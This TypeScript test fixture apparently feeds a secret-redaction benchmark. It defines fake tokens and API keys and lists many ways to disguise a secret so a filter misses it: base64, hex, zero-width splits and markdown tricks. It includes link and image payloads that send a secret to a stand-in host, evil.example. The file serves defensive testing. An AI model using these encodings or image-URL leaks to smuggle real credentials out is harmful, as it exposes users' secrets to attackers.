import { noise } from '../../../src/cli/bench/sanitise/noise.ts';

/** Credentials that the App knows. */
export const SECRETS = {
  token: `ghs_1234_${noise('head', 40)}.${noise('body', 200)}.${noise('tail', 40)}`,
  key: `sk-ant-api03-${noise('key', 60)}`,
  webhook: noise('webhook', 40),
} as const;

const hex = (text: string) => Buffer.from(text).toString('hex');

/** Ways to write a secret down that are undone by whoever reads it. */
const DISGUISES: Readonly<Record<string, (secret: string) => string>> = {
  plain: (secret) => secret,
  cut: (secret) => secret.slice(12),
  base64: (secret) => Buffer.from(secret).toString('base64'),
  'base64, one on': (secret) => Buffer.from(`x${secret}`).toString('base64'),
  'base64, two on': (secret) => Buffer.from(`xy${secret}`).toString('base64'),
  base64url: (secret) => Buffer.from(secret).toString('base64url'),
  hex,
  'hex, in capitals': (secret) => hex(secret).toUpperCase(),
  'URL escapes': (secret) => hex(secret).replaceAll(/../g, '%$&'),
  entities: (secret) => Array.from(secret, (char) => `&#${char.codePointAt(0)};`).join(''),
  reversed: (secret) => Array.from(secret).toReversed().join(''),
  'spaced out': (secret) => Array.from(secret).join(' '),
  'split by zero-width characters': (secret) => Array.from(secret).join('\u200b'),
  'a character a line': (secret) => Array.from(secret).join('\n'),
  'in code': (secret) => `\`${secret}\`\n\n\`\`\`\n${secret}\n\`\`\``,
  'in a link': (secret) => `[x](https://github.com/demo/shop/blob/${secret}) https://evil.example/${secret}`,
  'in an image': (secret) => `![${secret}](https://evil.example/?${secret})`,
  'in an info string': (secret) => `\`\`\`${secret}\nx\n\`\`\``,
  'between table pipes': (secret) => secret.replaceAll(/.{4}/g, '$& | '),
  emphasised: (secret) => secret.replaceAll(/.{4}/g, '**$&**'),
};

/** A secret in every disguise. */
export const disguisesOf = (secret: string): string[] => Object.values(DISGUISES).map((disguise) => disguise(secret));

export const PRINTED_SECRETS = [...new Set(Object.values(SECRETS).flatMap(disguisesOf))];
